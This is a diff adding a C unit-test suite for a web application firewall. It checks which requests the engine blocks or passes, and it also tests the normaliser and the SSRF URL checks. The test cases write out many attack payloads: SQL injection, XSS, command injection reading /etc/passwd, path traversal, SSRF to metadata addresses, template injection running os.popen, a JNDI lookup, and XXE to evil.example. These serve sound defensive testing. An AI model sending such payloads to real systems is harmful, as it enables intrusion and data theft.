@@ -1,0 +1,389 @@
+/* check_waf.c: the WAF engine against held-out attacks (notations the
+ * corpus does not use) and hard harmless developer chat, plus the
+ * normaliser, the SSRF address checks and hostile-input bounds. */
+#include "http.h"
+#include "waf.h"
+#include "waf_norm.h"
+#include "waf_ssrf.h"
+
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+static struct px_waf *waf;
+
+static void load(void)
+{
+	struct px_buf err = PX_BUF_INIT;
+
+	if (px_waf_load(PX_SRCDIR "/etc/waf.rules", &waf, &err) != 0)
+		ck_abort_msg("rules: %s", err.data);
+	px_buf_free(&err);
+}
+
+static void unload(void)
+{
+	px_waf_free(waf);
+	waf = NULL;
+}
+
+static void header(struct px_request *r, const char *name, const char *value)
+{
+	ck_assert_int_eq(px_kvlist_add(&r->headers, name, strlen(name), value,
+				       strlen(value)), 0);
+}
+
+/* Builds a request; headers is "name: value\n..." with lower-case names. */
+static void build(struct px_request *r, const char *method, const char *path,
+		  const char *query, const char *headers, const char *ctype,
+		  const char *body, size_t blen)
+{
+	const char *p = headers;
+
+	px_request_init(r);
+	r->method = strdup(method);
+	r->raw_path = strdup(path);
+	r->raw_query = strdup(query ? query : "");
+	header(r, "host", "chat.example.com");
+	header(r, "user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0");
+	header(r, "accept", "application/json");
+	while (p && *p) {
+		const char *nl = strchr(p, '\n'), *colon = strchr(p, ':');
+		size_t len = nl ? (size_t)(nl - p) : strlen(p);
+		char name[64], value[4096];
+
+		snprintf(name, sizeof(name), "%.*s", (int)(colon - p), p);
+		snprintf(value, sizeof(value), "%.*s", (int)(len - (size_t)(colon - p) - 2), colon + 2);
+		header(r, name, value);
+		p = nl ? nl + 1 : p + len;
+	}
+	if (ctype) {
+		r->content_type = strdup(ctype);
+		header(r, "content-type", ctype);
+	}
+	if (body) {
+		char cl[32];
+
+		r->body = malloc(blen + 1);
+		memcpy(r->body, body, blen);
+		r->body[blen] = '\0';
+		r->body_len = blen;
+		r->content_length = blen;
+		snprintf(cl, sizeof(cl), "%zu", blen);
+		header(r, "content-length", cl);
+	}
+}
+
+struct wcase {
+	int line;
+	int block;
+	const char *method, *path, *query, *headers, *ctype, *body;
+};
+
+#define JSON "application/json"
+#define FORM "application/x-www-form-urlencoded"
+#define MSG "/api/v1/channels/7/messages"
+
+static const struct wcase cases[] = {
+	/* SQL injection in notations the corpus does not use. */
+	{__LINE__, 1, "GET", "/api/v1/users", "search=%2527%2520or%25201%253D1--", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/api/v1/users", "search=x%27%09||%09%27a%27%3D%27a", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/api/v1/admin/users", "sort=name%20desc;WAITFOR%20DELAY%20%270:0:5%27--", NULL, NULL, NULL},
+	{__LINE__, 1, "POST", "/api/v1/auth/login", NULL, NULL, JSON, "{\"username\":\"a\\u0027 OR \\u00271\\u0027=\\u00271\",\"password\":\"x\"}"},
+	{__LINE__, 1, "GET", "/api/v1/channels/1/messages", "before=1%20AnD%20SlEeP(5)", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/api/v1/users", "search=%uFF07%20union%20all%20select%20null,null--", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/api/v1/users", "search=1'/*!12345UnIoN*/(sElEcT 1)", NULL, NULL, NULL},
+	/* XSS. */
+	{__LINE__, 1, "GET", "/search", "q=%3CIMG%20SRC%3D%22x%22%20ONERROR%3D%22alert(1)%22%3E", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/search", "q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B", NULL, NULL, NULL},
+	{__LINE__, 1, "PATCH", "/api/v1/users/me", NULL, NULL, JSON, "{\"display_name\":\"<a href=' javas\\tcript:alert(1)'>x</a>\"}"},
+	{__LINE__, 1, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"look <iframe src=//evil.example></iframe>\"}"},
+	{__LINE__, 1, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"![x](javascript:alert(1))\"}"},
+	{__LINE__, 1, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"`code` then <svg onload=alert(1)>\"}"},
+	{__LINE__, 1, "POST", "/c/general/post", NULL, NULL, FORM, "text=%3Cbase+href%3D%22https%3A%2F%2Fevil.example%2F%22%3E"},
+	/* Command injection, traversal, SSRF. */
+	{__LINE__, 1, "GET", "/api/v1/admin/diagnostics/ping", "host=8.8.8.8%7C%7Ccat%20/etc/hostname", NULL, NULL, NULL},
+	{__LINE__, 1, "POST", "/api/v1/admin/diagnostics/dns", NULL, NULL, JSON, "{\"host\":\"a.com;${IFS}cat${IFS}/etc/passwd\"}"},
+	{__LINE__, 1, "GET", "/static/..%252f..%252f..%252fetc/passwd", NULL, NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/static/%u002e%u002e/%u002e%u002e/etc/passwd", NULL, NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/api/v1/files/download", "path=....//....//etc/passwd", NULL, NULL, NULL},
+	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://0x7f.0.0.1/\"}"},
+	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://[::ffff:169.254.169.254]/\"}"},
+	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://\\uff11\\uff12\\uff17\\u3002\\uff10\\u3002\\uff10\\u3002\\uff11/\"}"},
+	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://evil.example@10.0.0.5:8080/\"}"},
+	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"dict://127.0.0.1:11211/stats\"}"},
+	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://127-0-0-1.sslip.io/\"}"},
+	/* Template, NoSQL, LDAP, header injection, XXE. */
+	{__LINE__, 1, "PATCH", "/api/v1/users/me", NULL, NULL, JSON, "{\"display_name\":\"{{7*'7'}}{{ cycler.__init__.__globals__.os.popen('id').read() }}\"}"},
+	{__LINE__, 1, "GET", "/api/v1/system/health", NULL, "x-api-version: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}", NULL, NULL},
+	{__LINE__, 1, "POST", "/api/v1/search", NULL, NULL, JSON, "{\"q\":\"x\",\"filter\":{\"owner\":{\"$regex\":\".*\"}}}"},
+	{__LINE__, 1, "GET", "/api/v1/users/directory", "q=*)(%26(objectClass=*)", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/login", "next=%2F%0ASet-Cookie%3A%20sid%3Dx", NULL, NULL, NULL},
+	{__LINE__, 1, "POST", "/api/v1/integrations/import/xml", NULL, NULL, "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><r/>"},
+	/* Protocol and scanners. */
+	{__LINE__, 1, "PATCH", "/api/v1/channels/1", NULL, NULL, "application/x-java-serialized-object", "\xac\xed\x00\x05"},
+	{__LINE__, 1, "GET", "/.git/HEAD", NULL, NULL, NULL, NULL},
+	{__LINE__, 1, "GET", "/", NULL, "x-original-url: /admin", NULL, NULL},
+	{__LINE__, 1, "GET", "/api/v1/files/1", NULL, "range: bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10", NULL, NULL},
+	{__LINE__, 1, "POST", MSG, NULL, NULL, "application/json; charset=utf-7", "{\"text\":\"+ADw-script+AD4-\"}"},
+	/* Harmless developer chat: code, SQL, shell, HTML in code. */
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"try `SELECT * FROM users WHERE id = 1 OR 1=1` in psql, it returns all rows\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"```html\\n<img src=x onerror=alert(1)>\\n<script>alert(document.cookie)</script>\\n```\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"~~~sh\\ncurl -s https://example.com/install.sh | bash; rm -rf /tmp/x && cat /etc/passwd\\n~~~\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"Traceback (most recent call last):\\n  File \\\"/app/x.py\\\", line 3, in <module>\\n    os.system('id')\\nNameError: name 'os' is not defined\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"we drop the table; then select from the union of both, it's ../../shared anyway & that's fine\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"the jinja bit is {{ user.name }} and {% for x in y %}, ${HOME} in bash\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"a < b && c > d, see <https://example.com/a?b=c&d=e> and http://10.0.0.5:8080/ on the VPN\"}"},
+	{__LINE__, 0, "POST", "/c/dev/post", NULL, NULL, FORM, "text=%60%3Cscript%3Ealert(1)%3C%2Fscript%3E%60+is+the+classic+test"},
+	{__LINE__, 0, "POST", "/api/v1/channels/7/snippets", NULL, NULL, JSON, "{\"title\":\"x\",\"content\":\"<?php system($_GET['c']); ?>\\n' OR 1=1 --\"}"},
+	{__LINE__, 0, "GET", "/api/v1/users", "search=O%27Reilly", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", "/search", "q=union%20station%20select%20seats", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", "/search", "q=%22disk%20full%22%20or%20%22out%20of%20memory%22", NULL, NULL, NULL},
+	{__LINE__, 0, "PATCH", "/api/v1/users/me", NULL, NULL, JSON, "{\"display_name\":\"Zoë (she/her) | ops & infra; on call\",\"status_text\":\"back at 3 -- maybe 4\"}"},
+	{__LINE__, 0, "POST", "/api/v1/auth/login", NULL, NULL, JSON, "{\"username\":\"jo\",\"password\":\"p4ss'w\\\"rd<>;|&$()\"}"},
+	{__LINE__, 0, "POST", "/api/v1/integrations/webhooks", NULL, NULL, JSON, "{\"url\":\"https://hooks.example.org/services/T1/B2?token=a%2Fb\",\"events\":[\"message.created\"]}"},
+	{__LINE__, 0, "GET", "/static/app.3f9a.js", NULL, "if-none-match: W/\"3f9a-17\"\naccept-language: de-CH,de;q=0.9,en;q=0.5\nsec-fetch-mode: no-cors", NULL, NULL},
+	{__LINE__, 0, "DELETE", "/api/v1/channels/12/messages/99812/reactions/%F0%9F%91%8D", NULL, NULL, NULL, NULL},
+	{__LINE__, 0, "OPTIONS", "/api/v1/channels", NULL, "origin: https://chat.example.com\naccess-control-request-method: POST", NULL, NULL},
+};
+
+START_TEST(test_cases)
+{
+	const struct wcase *c = &cases[_i];
+	struct px_request r;
+	struct px_waf_verdict v;
+	struct px_buf js = PX_BUF_INIT;
+	const char *prof;
+	enum px_err e;
+
+	build(&r, c->method, c->path, c->query, c->headers, c->ctype, c->body,
+	      c->body ? strlen(c->body) : 0);
+	if (c->ctype && strncmp(c->ctype, "application/x-java", 18) == 0)
+		r.body_len = r.content_length = 4; /* binary body with a NUL */
+	prof = px_waf_profile_for_path(c->method, c->path);
+	e = px_waf_inspect(waf, &r, prof, &v);
+	px_waf_verdict_json(&v, &js);
+	ck_assert_msg((e != PX_OK) == c->block, "line %d: expected %s, got %s %s", c->line,
+		      c->block ? "block" : "pass", e != PX_OK ? "block" : "pass", js.data);
+	px_buf_free(&js);
+	px_request_clear(&r);
+}
+END_TEST
+
+/* Hostile input is refused in bounded time and memory. */
+static enum px_err inspect_body(const char *method, const char *path, const char *ctype,
+				const char *body, size_t n)
+{
+	struct px_request r;
+	struct px_waf_verdict v;
+	enum px_err e;
+
+	build(&r, method, path, NULL, NULL, ctype, body, n);
+	e = px_waf_inspect(waf, &r, px_waf_profile_for_path(method, path), &v);
+	px_request_clear(&r);
+	return e;
+}
+
+START_TEST(test_deep_json)
+{
+	size_t n = 10000, i;
+	char *b = malloc(2 * n + 1);
+
+	for (i = 0; i < n; i++) {
+		b[i] = '[';
+		b[n + i] = ']';
+	}
+	b[2 * n] = '\0';
+	ck_assert_int_eq(inspect_body("POST", MSG, JSON, b, 2 * n), PX_E_SECURITY_REQUEST_BLOCKED);
+	free(b);
+}
+END_TEST
+
+START_TEST(test_many_params)
+{
+	struct px_buf q = PX_BUF_INIT;
+	struct px_request r;
+	struct px_waf_verdict v;
+	int i;
+
+	for (i = 0; i < 50000; i++)
+		px_buf_printf(&q, "%sp%d=%d", i ? "&" : "", i, i);
+	build(&r, "GET", "/api/v1/users", q.data, NULL, NULL, NULL, 0);
+	ck_assert_int_eq(px_waf_inspect(waf, &r, "search", &v), PX_E_SECURITY_REQUEST_BLOCKED);
+	px_request_clear(&r);
+	px_buf_free(&q);
+}
+END_TEST
+
+START_TEST(test_huge_header)
+{
+	struct px_request r;
+	struct px_waf_verdict v;
+	char *big = malloc(1024 * 1024 + 1);
+
+	memset(big, 'a', 1024 * 1024);
+	big[1024 * 1024] = '\0';
+	build(&r, "GET", "/", NULL, NULL, NULL, NULL, 0);
+	header(&r, "x-big", big);
+	ck_assert_int_eq(px_waf_inspect(waf, &r, NULL, &v), PX_E_SECURITY_REQUEST_BLOCKED);
+	px_request_clear(&r);
+	free(big);
+}
+END_TEST
+
+START_TEST(test_bad_bodies)
+{
+	static const char mp[] = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nhello";
+
+	ck_assert_int_eq(inspect_body("POST", "/api/v1/files", "multipart/form-data; boundary=b",
+				      mp, sizeof(mp) - 1), PX_E_SECURITY_REQUEST_BLOCKED);
+	ck_assert_int_eq(inspect_body("POST", "/login", FORM, "username=%zz%&password=%", 24),
+			 PX_E_SECURITY_REQUEST_BLOCKED);
+	ck_assert_int_eq(inspect_body("POST", "/login", FORM, "username=a%00b&password=x", 25),
+			 PX_E_SECURITY_REQUEST_BLOCKED);
+	ck_assert_int_eq(inspect_body("POST", "/login", FORM, "username=%c0%af&password=x", 26),
+			 PX_E_SECURITY_REQUEST_BLOCKED);
+	ck_assert_int_eq(inspect_body("POST", MSG, JSON, "{\"text\":\"a\\u0000b\"}", 20),
+			 PX_E_SECURITY_REQUEST_BLOCKED);
+	ck_assert_int_eq(inspect_body("POST", MSG, JSON, "{\"text\": tru", 12),
+			 PX_E_SECURITY_REQUEST_BLOCKED);
+}
+END_TEST
+
+struct ncase {
+	int line;
+	const char *in;
+	unsigned opts;
+	const char *want;
+	unsigned flags; /* flags that must be set */
+};
+
+static const struct ncase ncases[] = {
+	{__LINE__, "%2527%2520OR", 0, "' or", PX_WAF_N_MULTI_DECODE},
+	{__LINE__, "%c0%ae%c0%ae/", 0, "../", PX_WAF_N_OVERLONG},
+	{__LINE__, "%uFF1Cscript%uFF1E", 0, "<script>", PX_WAF_N_PCT_U | PX_WAF_N_FOLDED},
+	{__LINE__, "jav&#x09;ascript&colon;", PX_WAF_NO_URL, "jav\tascript:", PX_WAF_N_ENTITY},
+	{__LINE__, "&amp;lt;b&amp;gt;", PX_WAF_NO_URL, "<b>", PX_WAF_N_ENTITY},
+	{__LINE__, "\\u003cimg\\u003e", PX_WAF_NO_URL, "<img>", 0},
+	{__LINE__, "a%00b", 0, "ab", PX_WAF_N_NUL},
+	{__LINE__, "SeL\xe2\x80\x8b" "eCt", PX_WAF_NO_URL, "select", PX_WAF_N_FOLDED},
+	{__LINE__, "100%", PX_WAF_PRE_DECODED, "100%", 0},
+	{__LINE__, "%zz", 0, "%zz", PX_WAF_N_BAD_ESCAPE},
+	{__LINE__, "\xe5\x98\x8a\xe5\x98\x8dSet", PX_WAF_NO_URL, "\xe5\x98\x8a\xe5\x98\x8dset", PX_WAF_N_LOWBYTE_CRLF},
+};
+
+START_TEST(test_norm)
+{
+	const struct ncase *c = &ncases[_i];
+	struct px_buf out = PX_BUF_INIT, tmp = PX_BUF_INIT;
+	unsigned f = px_waf_norm_text(c->in, strlen(c->in), c->opts, &out, &tmp);
+
+	ck_assert_msg(strcmp(out.data, c->want) == 0 && (f & c->flags) == c->flags,
+		      "line %d: expected \"%s\" flags %#x, got \"%s\" flags %#x", c->line,
+		      c->want, c->flags, out.data, f);
+	px_buf_free(&out);
+	px_buf_free(&tmp);
+}
+END_TEST
+
+START_TEST(test_sql_view)
+{
+	struct px_buf out = PX_BUF_INIT;
+	const char *in = "1/*!50000union*//**/select\t\n1";
+
+	px_waf_norm_sql(in, strlen(in), &out);
+	ck_assert_str_eq(out.data, "1 union select 1");
+	px_buf_free(&out);
+}
+END_TEST
+
+struct scase {
+	int line;
+	const char *url;
+	enum px_waf_ssrf want;
+};
+
+static const struct scase scases[] = {
+	{__LINE__, "https://example.com/a", PX_WAF_SSRF_OK},
+	{__LINE__, "https://203.0.113.9/x", PX_WAF_SSRF_OK},
+	{__LINE__, "", PX_WAF_SSRF_OK},
+	{__LINE__, "http://2130706433/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://0177.1/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://0x0a.0x00.0x00.0x01/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://[0:0:0:0:0:ffff:7f00:1]/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://[fe80::1%25eth0]/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://[64:ff9b::a9fe:a9fe]/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://0/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://%31%32%37.0.0.1/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://localhost./", PX_WAF_SSRF_NAME},
+	{__LINE__, "http://app.localtest.me/", PX_WAF_SSRF_NAME},
+	{__LINE__, "http://10.1.2.3.nip.io/", PX_WAF_SSRF_NAME},
+	{__LINE__, "http://c0a80001.nip.io/", PX_WAF_SSRF_NAME},
+	{__LINE__, "http://example.com\\@127.0.0.1/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "http://127.0.0.1\\@example.com/", PX_WAF_SSRF_ADDRESS},
+	{__LINE__, "ftp://example.com/", PX_WAF_SSRF_SCHEME},
+	{__LINE__, "jar:http://example.com!/", PX_WAF_SSRF_SCHEME},
+	{__LINE__, " \thttp://169.254.169.254", PX_WAF_SSRF_ADDRESS},
+};
+
+START_TEST(test_ssrf)
+{
+	const struct scase *c = &scases[_i];
+	enum px_waf_ssrf got = px_waf_ssrf_check_url(c->url, strlen(c->url));
+
+	ck_assert_msg(got == c->want, "line %d: %s: expected %d, got %d", c->line, c->url,
+		      c->want, got);
+}
+END_TEST
+
+START_TEST(test_profiles_and_reload_errors)
+{
+	struct px_buf err = PX_BUF_INIT;
+	struct px_waf *w = NULL;
+	static const char bad[] = "[profile default]\n[rule 1]\ncategory = x\nwhere = arg\nmsg = m\nmatch = (\n";
+
+	ck_assert_str_eq(px_waf_profile_for_path("POST", "/api/v1/channels/3/messages"), "message");
+	ck_assert_str_eq(px_waf_profile_for_path("GET", "/api/v1/channels/3/messages?x=1"), "default");
+	ck_assert_str_eq(px_waf_profile_for_path("POST", "/api/v1/files"), "upload");
+	ck_assert_str_eq(px_waf_profile_for_path("GET", "/static/css/a.css"), "static");
+	ck_assert_str_eq(px_waf_profile_for_path("GET", "/nowhere"), "default");
+	ck_assert_int_eq(px_waf_load_text(bad, sizeof(bad) - 1, "bad.rules", &w, &err), -1);
+	ck_assert_msg(strstr(err.data, "bad.rules:6:") != NULL, "got %s", err.data);
+	ck_assert_ptr_null(w);
+	ck_assert_uint_ge(px_waf_max_body(waf, "upload"), 1024 * 1024);
+	ck_assert_ptr_nonnull(px_waf_rule_msg(waf, 130103));
+	px_buf_free(&err);
+}
+END_TEST
+
+static Suite *suite(void)
+{
+	Suite *s = suite_create("waf");
+	TCase *tc = tcase_create("engine");
+
+	tcase_add_unchecked_fixture(tc, load, unload);
+	tcase_set_timeout(tc, 60);
+	tcase_add_loop_test(tc, test_cases, 0, (int)(sizeof(cases) / sizeof(cases[0])));
+	tcase_add_test(tc, test_deep_json);
+	tcase_add_test(tc, test_many_params);
+	tcase_add_test(tc, test_huge_header);
+	tcase_add_test(tc, test_bad_bodies);
+	tcase_add_loop_test(tc, test_norm, 0, (int)(sizeof(ncases) / sizeof(ncases[0])));
+	tcase_add_test(tc, test_sql_view);
+	tcase_add_loop_test(tc, test_ssrf, 0, (int)(sizeof(scases) / sizeof(scases[0])));
+	tcase_add_test(tc, test_profiles_and_reload_errors);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int main(void)
+{
+	SRunner *sr = srunner_create(suite());
+	int failed;
+
+	srunner_run_all(sr, CK_NORMAL);
+	failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
+}
